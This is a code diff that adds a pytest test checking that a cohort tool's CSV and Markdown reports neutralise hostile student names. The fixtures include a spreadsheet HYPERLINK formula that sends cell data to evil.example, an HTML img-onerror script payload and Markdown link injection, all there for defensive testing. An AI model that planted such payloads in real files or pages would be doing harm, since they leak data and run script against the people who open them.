@@ -5,8 +5,11 @@ as they are. And the refusals that protect a student's main.
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import stat
+from html import escape as html_escape
 from pathlib import Path
 
 import pytest
@@ -106,3 +109,52 @@ def test_the_manifest_and_reports_follow_the_umask(tmp_path: Path, sets: Templat
         os.umask(previous)
     for name in ("cohort.yml", "cohort-update.md", "cohort-update.csv"):
         assert stat.S_IMODE((out / name).stat().st_mode) == 0o664, name
+
+
+# Names a spreadsheet would run as formulas (OWASP's CSV injection), and Markdown or HTML.
+FORMULA_NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Ada")',
+    "+Plus Sign",
+    "-Minus Sign",
+    "@At Sign",
+    "＝Fullwidth Equals",
+]
+MARKUP_NAMES = ["<img src=x onerror=alert(1)>", "[Click](http://evil.example) **now** | pipe"]
+CONSOLE_MARKUP_NAME = "Ada [/b] [red]Byron"  # rich's markup: a closing tag it cannot match
+
+
+def test_the_reports_neither_run_formulas_nor_render_markup(
+    tmp_path: Path, sets: TemplateSets
+) -> None:
+    names = [*FORMULA_NAMES, *MARKUP_NAMES, CONSOLE_MARKUP_NAME, "Plain Name"]
+    rows = [{"name": name, "email": f"s{n}@example.org"} for n, name in enumerate(names)]
+    roster = write_roster(tmp_path / "roster.csv", rows)
+    out = tmp_path / "course"
+    made = cohort("new", roster, "-t", "nlp", "--out", out, "--templates-dir", sets.v1)
+    assert made.returncode == 0, made.stdout + made.stderr
+    assert CONSOLE_MARKUP_NAME in made.stdout
+
+    result = cohort("update", out, "--templates-dir", sets.v2)
+
+    assert result.returncode == 0, result.stdout + result.stderr
+    text = (out / "cohort-update.csv").read_text(encoding="utf-8")
+    records = list(csv.reader(io.StringIO(text, newline="")))
+    cells = [cell for record in records for cell in record]
+    dangerous = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+    assert not [cell for cell in cells if cell.startswith(dangerous)], text
+    by_name = {row["name"]: row for row in read_csv(out / "cohort-update.csv")}
+    for name in FORMULA_NAMES:
+        assert by_name[f"'{name}"]["outcome"] == "updated cleanly"  # kept, with a quote first
+    assert by_name["Plain Name"]["outcome"] == "updated cleanly"  # others as they are
+
+    from markdown_it import MarkdownIt
+
+    report = (out / "cohort-update.md").read_text(encoding="utf-8")
+    html = MarkdownIt("commonmark").enable("table").render(report)
+    for tag in ("<img", "<a ", "<strong>", "<em>"):
+        assert tag not in html, html
+    table_rows = html.split("<tbody>")[1].split("</tbody>")[0].split("<tr>")[1:]
+    assert len(table_rows) == len(names)
+    assert all(row.count("<td>") == 6 for row in table_rows), html
+    for name in [*MARKUP_NAMES, CONSOLE_MARKUP_NAME]:  # shown as written
+        assert html_escape(name, quote=False) in html, name
